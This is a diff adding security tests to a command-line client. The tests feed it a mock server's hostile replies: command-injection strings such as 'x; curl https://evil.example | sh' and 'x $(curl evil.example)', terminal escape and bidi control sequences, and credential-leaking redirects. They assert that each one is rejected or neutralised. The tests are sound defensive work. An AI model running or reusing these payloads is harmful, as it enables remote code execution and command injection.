@@ -47,6 +47,135 @@ describe("devices token", () => {
   });
 });
 
+describe("users invite", () => {
+  const user = {
+    id: DEVICE,
+    email: "b@example.org",
+    name: "Bob",
+    role: "standard",
+    state: "invited",
+    person: null,
+    created_at: 1,
+  };
+
+  async function invite(invitation: string) {
+    const reply = { user, invitation, expires_at: 1_700_000_000 };
+    await using server = await startLyingServer({ "POST /users": reply });
+    const words = ["users", "invite", "--email", "b@example.org", "--name", "Bob", "--role", "standard"];
+    return await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(...words);
+  }
+
+  test("hands over a line that one can type, and none that would do something else", async () => {
+    const good = await invite("csi_abc-DEF_1");
+    expect(good.code).toBe(0);
+    expect(good.out).toContain("--invitation csi_abc-DEF_1");
+    const said = await invite("x; curl https://evil.example | sh");
+    expect(said.code).toBe(1);
+    expect(said.out + said.err).not.toContain("curl");
+  });
+});
+
+describe("keys create", () => {
+  test("prints a key and nothing else", async () => {
+    const key = {
+      id: DEVICE,
+      name: "ci",
+      prefix: "csk_abc",
+      permissions: null,
+      created_at: 1,
+      expires_at: null,
+      last_used_at: null,
+    };
+    await using server = await startLyingServer({ "POST /keys": { key, secret: "x $(curl evil.example)" } });
+    const said = await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(
+      "keys",
+      "create",
+      "--name",
+      "ci",
+    );
+    expect(said.code).toBe(1);
+    expect(said.out).toBe("");
+  });
+});
+
+describe("a token in the environment", () => {
+  const env = (own: string) => ({ COUNTERSIGN_SERVER: own, COUNTERSIGN_TOKEN: "csk_secret" });
+
+  test("is shown to the server that is set up beside it, and to no other that is named on the line", async () => {
+    await using own = await startLyingServer({ "GET /clients": { clients: [] } });
+    await using other = await startLyingServer({ "GET /clients": { clients: [] } });
+    await openTerminal(env(own.url)).type("clients", "list", "--server", other.url);
+    await openTerminal(env(own.url)).type("clients", "list");
+    await openTerminal(env(own.url)).type("clients", "list", "--server", `${own.url}/`);
+    await openTerminal(env(own.url)).type("clients", "list", "--server", other.url, "--token", "csk_meant");
+    await openTerminal({ COUNTERSIGN_TOKEN: "csk_any" }).type("clients", "list", "--server", other.url);
+    expect(other.heard.map(({ authorization }) => authorization)).toEqual([
+      undefined,
+      "Bearer csk_meant",
+      "Bearer csk_any",
+    ]);
+    expect(own.heard.map(({ authorization }) => authorization)).toEqual([
+      "Bearer csk_secret",
+      "Bearer csk_secret",
+    ]);
+  });
+});
+
+describe("a server that sends people on", () => {
+  test.each([302, 307, 308])(
+    "with %d is not followed: what was typed is for the server that was named",
+    async (status) => {
+      await using other = await startLyingServer({});
+      await using server = await startLyingServer({}, { status, location: other.url });
+      const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url }, "correct horse battery\n");
+      const said = await terminal.type("login", "--email", "a@example.org", "--password-stdin");
+      expect(said.code).toBe(1);
+      expect(said.err).toContain(other.url);
+      expect(other.heard).toEqual([]);
+    },
+  );
+});
+
+describe("what a device or a server says", () => {
+  test("cannot drive the terminal, in no command and in no form of output", async () => {
+    const hostile = "\u001b]52;c;eA==\u0007\u009b2J\u202e\u200b";
+    const device = {
+      id: DEVICE,
+      fingerprint: of("a"),
+      seal: "A".repeat(43),
+      machine: null,
+      name: `web\u202e-1`,
+      client: "acme",
+      state: "enrolled",
+      connected: true,
+      last_seen_at: null,
+      trust: "nobody",
+      admission: null,
+      pins: [],
+      floor_state: "none",
+      separation: hostile,
+      facts: { os: hostile },
+      created_at: 1,
+    };
+    const objection = { document: of("b"), because: hostile, detail: hostile, at: 1 };
+    await using server = await startLyingServer({
+      [`GET /devices/${DEVICE}`]: { device, status: null, objections: [objection] },
+    });
+    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
+    const said = [
+      await terminal.type("devices", "show", DEVICE),
+      await terminal.type("devices", "show", DEVICE, "--json"),
+    ];
+    for (const { code, out, err } of said) {
+      expect(code).toBe(0);
+      expect(out.length).toBeGreaterThan(100);
+      expect(out + err).not.toMatch(/[^\P{Cc}\n\t]|\p{Cf}/u);
+    }
+    const [, json] = said;
+    expect(JSON.parse(json?.out ?? "")).toMatchObject({ device, objections: [objection] });
+  });
+});
+
 describe("audit verify", () => {
   test("shows a token to the server that it was made for, and to nobody else", async () => {
     await using own = await startLyingServer({});
